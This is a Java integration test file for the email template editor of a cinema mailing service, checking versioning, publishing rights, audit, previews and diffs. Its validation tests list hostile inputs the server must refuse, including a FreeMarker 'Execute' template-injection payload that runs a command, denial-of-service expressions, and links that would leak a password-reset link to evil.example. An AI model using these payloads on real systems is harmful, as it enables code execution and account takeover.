package cinema.orchestrator.template;

import java.io.IOException;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import cinema.orchestrator.IntegrationTest;
import cinema.orchestrator.catalogue.Catalogue;
import cinema.orchestrator.mailing.MailingRest;
import cinema.orchestrator.rendering.LetterRequest;
import cinema.orchestrator.rendering.Renderer;
import cinema.orchestrator.rendering.StoredTemplates;
import cinema.orchestrator.rendering.TemplateFiles;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import static org.assertj.core.api.Assertions.assertThat;

/** Texts of letters, as those who write them and those who publish them have them. */
@IntegrationTest
class TemplateApiIntegrationTests {

	private static final String RESET = "/api/v1/templates/password_reset";

	@Autowired
	private Catalogue catalogue;

	@Autowired
	private TemplateFiles files;

	@Autowired
	private TemplateStore store;

	@Autowired
	private StoredTemplates stored;

	@Autowired
	private Renderer renderer;

	@LocalServerPort
	private int port;

	private final String name = "t_" + UUID.randomUUID().toString().replace("-", "");

	private final String path = "/api/v1/templates/" + this.name;

	private MailingRest editor;

	private MailingRest publisher;

	@BeforeEach
	void signIn() {
		this.editor = new MailingRest(this.port, IntegrationTest.EDITORS_TOKEN);
		this.publisher = new MailingRest(this.port, IntegrationTest.PUBLISHERS_TOKEN);
	}

	@Test
	void sendsAVersionOnceSomebodyElseHasPublishedIt() throws Exception {
		assertThat(save(0, "Hello").statusCode()).isEqualTo(201);
		assertThat(this.renderer.knows("email/" + this.name + "@1")).isFalse();

		assertThat(this.editor.post(this.path + "/versions/1/publish", "").statusCode()).isEqualTo(403);
		assertThat(this.publisher.post(this.path + "/versions/1/publish", "").statusCode()).isEqualTo(200);

		assertThat(this.stored.current(this.name)).isEqualTo(this.name + "@1");
		assertThat(letter(this.name + "@1")).isEqualTo("Hello");
	}

	@Test
	void keepsTheVersionThatWasPinnedAndRollsBack() throws Exception {
		publish(save(0, "One"));
		publish(save(1, "Two"));

		assertThat(this.stored.current(this.name)).isEqualTo(this.name + "@2");
		assertThat(letter(this.name + "@1")).isEqualTo("One");
		assertThat(this.publisher.post(this.path + "/versions/1/publish", "").statusCode()).isEqualTo(200);

		JsonNode shown = MailingRest.read(this.editor.get(this.path));
		assertThat(shown.path("published").asInt()).isEqualTo(1);
		assertThat(shown.path("versions").valueStream().map((one) -> one.path("state").asString()))
			.containsExactly("earlier", "published");
		JsonNode audit = MailingRest.read(new MailingRest(this.port, IntegrationTest.READERS_TOKEN)
			.get("/api/v1/audit?target=template/" + this.name));
		assertThat(audit.path("items").valueStream().map((one) -> one.path("act").asString()))
			.containsExactly("rolled back", "published", "saved", "published", "saved");
	}

	@Test
	void isPublishedBySomebodyElseThanItsAuthor() throws Exception {
		this.publisher.post(this.path + "/versions", draft(0, "Mine"));

		assertThat(this.publisher.post(this.path + "/versions/1/publish", "").statusCode()).isEqualTo(409);
		assertThat(this.stored.current(this.name)).isEqualTo(this.name);
	}

	@Test
	void losesNothingThatSomebodySavedMeanwhile() throws Exception {
		save(0, "One");

		HttpResponse<String> late = save(0, "Two");

		assertThat(late.statusCode()).isEqualTo(409);
		assertThat(late.body()).contains("version 1 meanwhile");
		assertThat(MailingRest.read(save(1, "One")).path("number").asInt()).as("nothing is new").isEqualTo(1);
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', quoteCharacter = '`',
			textBlock = """
					`Hi\n${context.nobody}`                  | context.nobody is missing, line 5
					`Hi ${`                                  | line 4
					`\n\n<#if receiver>x</#if>`              | receiver is neither true nor false, line 6
					`<#list 1.. as i></#list>`               | a range of more than 999 is not allowed
					`<#list 1..999 as i><#list 1..999 as j><#list 1..999 as k></#list></#list></#list>` | did not end within
					`<#list 1..999 as i><#list 1..999 as j>x${i}</#list></#list>` | longer than
					`<#assign a = "x"><#assign a = a + a>`   | + is not allowed
					`<#assign a>x</#assign>`                 | <#assign> around text is not allowed
					`<#assign a = "${event.id}">`            | a value within quotes is not allowed
					`<#assign a = 9 * 9>`                    | * is not allowed
					`<#macro m>x</#macro>`                   | <#macro> is not allowed
					`${receiver? <#-- x --> api}`            | ? is not allowed
					`${"freemarker.template.utility.Execute"?new()("id")}` | ?new is not allowed in templates from the editor, line 4
					`${.data_model}`                         | .data_model is forbidden
					`${. version}`                           | .version is not allowed
					`<#include "x">`                         | <#include is forbidden
					`${receiver.name?matches("(a+)+$")}`     | ?matches is not allowed
					`${""?left_pad(1000000000)}`             | ?left_pad is not allowed
					`${receiver.name?no_esc}`                | ?no_esc is not allowed
					`${[1]?map(x -> x)?size}`                | ?map is not allowed
					`${link("https://evil.example/")}`       | link: only paths of our own are allowed, line 4
					""")
	void namesTheLineOfWhatMayNotBeSaved(String body, String reason) throws Exception {
		HttpResponse<String> refused = save(0, body.replace("\\n", "\n"));

		assertThat(refused.statusCode()).isEqualTo(400);
		JsonNode error = MailingRest.read(refused).at("/errors/0");
		assertThat(error.path("field").asString()).isEqualTo("texts.email/" + this.name + ".md");
		assertThat(error.path("reason").asString()).contains(reason);
		assertThat(this.editor.get(this.path).statusCode()).isEqualTo(404);
	}

	@Test
	void missesTheLinkOfTheTemplateThatCameWithTheProgram() throws Exception {
		String text = "---\nsubject: x\n---\nAsk for a new password.";
		HttpResponse<String> refused = this.editor.post(RESET + "/versions", JsonMapper.shared()
			.writeValueAsString(Map.of("after", 0, "texts", Map.of("email/password_reset.md", text))));

		assertThat(refused.statusCode()).isEqualTo(400);
		assertThat(refused.body()).contains("it lacks the link http://localhost:8081/s/sample-reset");
	}

	@Test
	void takesWhateverCameWithTheProgram() {
		assertThat(this.catalogue.templates()).hasSizeGreaterThan(10);
		for (String template : this.catalogue.templates().keySet()) {
			String known = template.replaceFirst("^.*/", "");
			assertThat(this.files.sample(known)).as(known).isNotNull();
			assertThat(this.store.faults(known, new TemplateDraft(0, this.files.texts(known), null, null))).as(known)
				.isEmpty();
		}
	}

	@Test
	void triesItWithTheAuthorsOwnSampleToo() throws Exception {
		String text = "---\nsubject: x\n---\n${context.film.title}";
		Map<String, Object> draft = Map.of("texts", Map.of("email/" + this.name + ".md", text));
		assertThat(this.editor.post(this.path + "/versions", JsonMapper.shared().writeValueAsString(draft)).body())
			.contains("context.film is missing, line 4");

		Map<String, Object> withSample = Map.of("texts", Map.of("email/" + this.name + ".md", text), "sample",
				"{\"context\": {\"film\": {\"title\": \"Solaris\"}}}");
		assertThat(this.editor.post(this.path + "/versions", JsonMapper.shared().writeValueAsString(withSample))
			.statusCode()).isEqualTo(201);
		assertThat(MailingRest.read(this.editor.get(this.path)).at("/variables/context.film.title").asString())
			.isEqualTo("Solaris");
	}

	@Test
	void showsTheLetterAndItsSize() throws Exception {
		JsonNode shown = MailingRest.read(this.editor.post("/api/v1/templates/new_movies/preview",
				JsonMapper.shared()
					.writeValueAsString(Map.of("file", "email/new_movies_ru.md", "source",
							this.files.texts("new_movies").get("email/new_movies_ru.md")))));

		assertThat(shown.path("subject").asString()).isEqualTo("Friday films");
		assertThat(shown.path("text").asString()).contains("Анна, у нас новые фильмы", "Solaris");
		assertThat(shown.path("html_size").asInt()).isBetween(1000, 20_000);
		JsonNode wrong = MailingRest.read(this.editor.post("/api/v1/templates/new_movies/preview",
				"{\"file\": \"email/new_movies.md\", \"source\": \"---\\nsubject: x\\n---\\n\\n${context.x}\"}"));
		assertThat(wrong.path("line").asInt()).isEqualTo(5);
	}

	@Test
	void isTriedByThoseAloneWhoWrite() throws Exception {
		MailingRest reader = new MailingRest(this.port, IntegrationTest.WATCHERS_TOKEN);
		assertThat(reader.get("/api/v1/templates/new_movies").statusCode()).isEqualTo(200);

		assertThat(reader
			.post("/api/v1/templates/new_movies/preview",
					"{\"file\": \"email/new_movies.md\", \"source\": \"---\\nsubject: x\\n---\\nx\"}")
			.statusCode()).isEqualTo(403);
	}

	@ParameterizedTest
	@ValueSource(strings = { "![x](https://evil.example/p?t=${link(details.reset_link)})",
			"![x](${link(details.reset_link)})", "[x](https://evil.example/${details.reset_link})",
			"[x](//evil.example/${details.reset_link})", "[x](http://localhost:8081@evil.example/)",
			"[x]: https://evil.example/${details.reset_link[0..3]}\n\n[x]", "<https://evil.example/>",
			"https://evil.example/?t=${details.reset_link?upper_case}" })
	void letsNoLinkThatWorksOnceLeaveForElsewhere(String body) throws Exception {
		String text = "---\nsubject: x\n---\n[Reset](${link(details.reset_link)})\n\n" + body;
		HttpResponse<String> refused = this.editor.post(RESET + "/versions", JsonMapper.shared()
			.writeValueAsString(Map.of("after", 0, "texts", Map.of("email/password_reset.md", text))));

		assertThat(refused.statusCode()).isEqualTo(400);
		assertThat(refused.body()).contains("is not allowed in a letter with a link that works once");
	}

	@Test
	void comparesTwoVersions() throws Exception {
		save(0, "One\nsame");
		save(1, "Two <b>\nsame\nmore");

		JsonNode rows = MailingRest.read(this.editor.get(this.path + "/diff?from=1&to=2")).at("/0/rows");

		assertThat(rows.valueStream().map((row) -> row.path("kind").asString())).containsExactly("same", "same", "same",
				"changed", "same", "added");
		assertThat(rows.at("/3/after").asString()).isEqualTo("Two <b>");
		assertThat(rows.at("/5/new_line").asInt()).isEqualTo(6);
	}

	private String draft(int after, String body) {
		return JsonMapper.shared()
			.writeValueAsString(Map.of("after", after, "note", "a test", "texts",
					Map.of("email/" + this.name + ".md", "---\nsubject: x\n---\n" + body)));
	}

	private HttpResponse<String> save(int after, String body) throws IOException, InterruptedException {
		return this.editor.post(this.path + "/versions", draft(after, body));
	}

	private void publish(HttpResponse<String> saved) throws IOException, InterruptedException {
		int number = MailingRest.read(saved).path("number").asInt();
		assertThat(this.publisher.post(this.path + "/versions/" + number + "/publish", "").statusCode()).isEqualTo(200);
	}

	private String letter(String template) {
		return this.renderer.render(List.of(new LetterRequest("email/" + template, "en", Map.of("receiver", Map.of()))))
			.get(0)
			.letter()
			.text();
	}

}
